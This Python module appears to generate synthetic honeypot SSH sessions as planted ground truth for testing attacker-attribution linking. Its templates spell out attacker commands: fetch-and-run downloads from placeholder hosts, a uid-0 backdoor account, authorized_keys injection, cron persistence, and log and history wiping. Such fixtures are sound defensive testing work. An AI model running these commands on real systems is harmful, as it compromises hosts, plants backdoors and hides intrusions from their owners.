"""Planted truth for linking: who owns what, written as sessions that look like those of real logs.

Owners run kits that are put together from what real ones do, from a few addresses each, with a key, a payload host or
both that are theirs. Beside them: twins (one kit and client, another owner), crowds (one kit, nothing owned), a hub
(one key at more addresses than an identity may have), who fetches from public places, and noise with common clients.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator, Mapping
from itertools import combinations
from random import Random
from typing import Any, NamedTuple
from zlib import crc32

from decnet.attribution.linking import Features, Login, features_of
from decnet.events.session import SessionEnded
from decnet.ids import attacker_id

RECON = (
    "uname -a", "uname -s -v -n -r -m", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem", "nproc --all",
    "lscpu | grep Model", "cat /etc/issue", "w", "whoami", "id", "crontab -l", "ls -lh $(which ls)", "df -h", "uptime",
    "top -bn1 | head -5", "cat /proc/meminfo", "ifconfig -a", "ps aux | grep -v root", "which wget curl tftp",
    "cat /proc/mounts", "cat /etc/passwd", "last -n 5", "hostname -I", "ls -la /var/run", "nvidia-smi -q | grep Product",
)  # fmt: skip
PLACES = (
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
    "cd /dev/shm",
    "mkdir -p /var/tmp/.x; cd /var/tmp/.x",
    "cd ~",
)
FETCH = (
    "wget http://{host}/{name}; curl -O http://{host}/{name}", "wget -q http://{host}/{name} -O {name}",
    "curl -fsSL http://{host}/{name} -o {name}", "tftp {host} -c get {name}; tftp -r {name} -g {host}",
    "busybox wget http://{host}/{name} -O - > {name}", "ftpget -v -u anonymous -p anonymous -P 21 {host} {name} {name}",
    "cat < /dev/tcp/{host}/8080 > {name}", "wget --no-check-certificate http://{host}:81/d/{name}",
)  # fmt: skip
RUN = (
    "chmod 777 {name}; sh {name}", "chmod +x {name} && ./{name} -o pool.test:443 -k", "bash {name} > /dev/null 2>&1 &",
    "nohup ./{name} &", "perl {name}; python {name}", "chmod 755 {name}; ./{name} ssh.bot", "sh {name} -s -x",
)  # fmt: skip
KEEP = (
    "(crontab -l; echo '*/5 * * * * /tmp/{name}') | crontab -", "echo '/tmp/{name}' >> /etc/rc.local",
    "systemctl enable {name}.service --now", "useradd -o -u 0 -g 0 -M -d /root sys", "chattr +ia /etc/ld.so.preload",
)  # fmt: skip
CLEAN = ("history -c", "rm -rf {name}", "rm -f /var/log/wtmp /var/log/lastlog", "unset HISTFILE; export HISTSIZE=0", "pkill -9 {name}",
         "iptables -F; systemctl stop firewalld", "cat /dev/null > ~/.bash_history")  # fmt: skip
ADD_KEY = (
    'mkdir -p ~/.ssh; echo "ssh-rsa {key} {name}" >> ~/.ssh/authorized_keys',
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa {key} {name}">>.ssh/authorized_keys && chmod -R go= ~/.ssh',
    'echo "ssh-ed25519 {key}" > /root/.ssh/authorized_keys; chattr +i /root/.ssh/authorized_keys',
)
CLIENTS = (
    "SSH-2.0-Go",
    "SSH-2.0-libssh2_1.8.0",
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-PUTTY",
    "SSH-2.0-libssh2_1.4.3",
)
PUBLIC = ("raw.githubusercontent.com", "pastebin.com", "transfer.sh")


def _own(address: str) -> int:
    """The hand of an address that is its own."""
    return 10**6 + crc32(address.encode())


class Owner(NamedTuple):
    """One hand: its addresses, and how its sessions look."""

    kit: int
    script: tuple[str, ...]
    client: str
    host: str
    key: str
    logins: tuple[tuple[str, str], ...]
    addresses: tuple[str, ...]


class Planted(NamedTuple):
    """Sessions in their order, and the truth about their addresses."""

    payloads: list[tuple[Mapping[str, Any], list[Login]]]
    """Each as the end of a session tells it, and its attempts to log in."""
    hands: dict[str, int]
    """Address → its owner; of a hub and of noise each address is its own."""
    kits: dict[str, frozenset[int]]
    keyed: set[str]
    hosted: set[str]
    twins: list[tuple[frozenset[str], frozenset[str]]]

    @property
    def sessions(self) -> list[Features]:
        """What linking makes of them."""
        return [features_of([SessionEnded.parse(payload, [])], tried) for payload, tried in self.payloads]


class _Field:
    def __init__(self, seed: int) -> None:
        self.rnd = Random(seed)
        self.at = 1_700_000_000.0
        self.planted = Planted([], {}, {}, set(), set(), [])
        self._addresses: set[str] = set()
        self._number = 0

    def address(self) -> str:
        while True:
            net = f"{self.rnd.randrange(11, 99)}.{self.rnd.randrange(256)}"
            made = f"{net}.{self.rnd.randrange(256)}.{self.rnd.randrange(1, 255)}"
            if made not in self._addresses:
                self._addresses.add(made)
                return made

    def host(self) -> str:
        if self.rnd.random() < 0.3:
            return f"{self.word(6)}.{self.rnd.choice(['xyz', 'top', 'ru', 'cn', 'su'])}"
        return f"{self.rnd.randrange(101, 199)}.{self.rnd.randrange(256)}.{self.rnd.randrange(256)}.{self.rnd.randrange(1, 255)}"

    def word(self, chars: int) -> str:
        return "".join(self.rnd.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(chars))

    def key(self) -> str:
        body = b"\0\0\0\x07ssh-rsa\0\0\0\x03\x01\0\x01" + self.rnd.randbytes(140)
        return base64.b64encode(body).decode()

    def client(self, rare: float) -> str:
        if self.rnd.random() >= rare:
            return self.rnd.choice(CLIENTS)
        return f"SSH-2.0-OpenSSH_{self.rnd.randrange(5, 9)}.{self.rnd.randrange(10)}p1 x{self.rnd.randrange(400)}"

    def script(self) -> tuple[str, ...]:
        """What a kit does, in its order; what it owns stands in braces."""
        rnd = self.rnd
        return (
            *rnd.sample(RECON, rnd.randrange(2, 6)),
            rnd.choice(PLACES),
            rnd.choice(FETCH),
            *([rnd.choice(FETCH)] if rnd.random() < 0.5 else []),
            rnd.choice(RUN),
            *rnd.sample(KEEP, rnd.randrange(3)),
            *rnd.sample(CLEAN, rnd.randrange(1, 4)),
        )

    def owner(self, kit: int, script: tuple[str, ...], client: str, kind: str, addresses: int) -> Owner:
        key = self.key() if "key" in kind else ""
        lines = [line for line in script if kind != "key" or "{host}" not in line]
        if key:
            lines.insert(self.rnd.randrange(len(lines)), ADD_KEY[kit % len(ADD_KEY)])
        logins = tuple(
            (self.rnd.choice(["root", "admin", "ubuntu"]), self.word(7))
            for _ in range(self.rnd.randrange(1, 12))
        )
        host = self.host() if "host" in kind else self.rnd.choice(PUBLIC)
        return Owner(
            kit, tuple(lines), client, host, key, logins, tuple(self.address() for _ in range(addresses))
        )

    def sow(self, owner: Owner, hand: int | None = None) -> None:
        """Every address of an owner with one to three sessions, none quite like another."""
        self._number += 1
        for address in owner.addresses:
            self.planted.hands[address] = self._number if hand is None else _own(address)
            self.planted.kits[address] = frozenset({owner.kit})
            for _ in range(self.rnd.choice((1, 1, 2, 3))):
                self.session(address, list(self.varied(owner)), owner.client, owner.logins)

    def varied(self, owner: Owner) -> Iterator[str]:
        name = self.word(self.rnd.randrange(3, 8)) + self.rnd.choice(["", ".sh", "5"])
        for line in owner.script:
            if "{key}" not in line and "{host}" not in line and self.rnd.random() < 0.06:
                continue  # a step that did not come through
            yield line.format(host=owner.host, key=owner.key, name=name)

    def session(
        self, address: str, lines: list[str], client: str, logins: tuple[tuple[str, str], ...]
    ) -> None:
        self.at += self.rnd.expovariate(1 / 60)
        payload: Mapping[str, Any] = {
            "session_id": f"s{len(self.planted.payloads)}",
            "attacker_ip": address,
            "attacker_uuid": attacker_id(address),
            "started_at": self.at,
            "ended_at": self.at + 20.0,
            "commands": [{"command_text": line} for line in lines],
            "client": {"version": client, "hassh": f"{crc32(client.encode()):032d}", "kex": [], "size": None},
        }
        tried = [Login(user, secret) for user, secret in logins]
        self.planted.payloads.append((payload, tried))


def plant(seed: int, owners: int = 40) -> Planted:
    """A field of owners, twins, crowds, a hub, users of public places and noise."""
    field = _Field(seed)
    rnd, planted = field.rnd, field.planted
    for kit in range(owners):
        kind = rnd.choice(["key", "host", "host", "key host"])
        owner = field.owner(kit, field.script(), field.client(0.7), kind, rnd.randrange(2, 8))
        field.sow(owner)
        (planted.keyed if "key" in kind else planted.hosted).update(owner.addresses)
    for kit in range(owners, owners + owners // 4):
        script, client = field.script(), field.client(0.7)
        pair = [field.owner(kit, script, client, "host", rnd.randrange(2, 6)) for _ in range(2)]
        for owner in pair:
            field.sow(owner)
            planted.hosted.update(owner.addresses)
        planted.twins.append((frozenset(pair[0].addresses), frozenset(pair[1].addresses)))
    for kit, size, kind in ((1000, 25, "none"), (1001, 30, "none"), (1002, 80, "key")):  # crowds and a hub
        field.sow(field.owner(kit, field.script(), field.client(0.3), kind, size), hand=0)
    for _ in range(owners * 8):
        address = field.address()
        planted.hands[address], planted.kits[address] = _own(address), frozenset()
        tried = tuple(
            (rnd.choice(["root", "admin"]), rnd.choice(["123456", "admin", "root", field.word(6)]))
            for _ in range(rnd.randrange(1, 6))
        )
        field.session(address, rnd.sample(RECON, rnd.randrange(3)), field.client(0.2), tried)
    rnd.shuffle(planted.payloads)
    return planted


def pairs(groups: Any) -> set[tuple[str, str]]:
    """All pairs within groups, each in order."""
    return {pair for group in groups for pair in combinations(sorted(group), 2)}
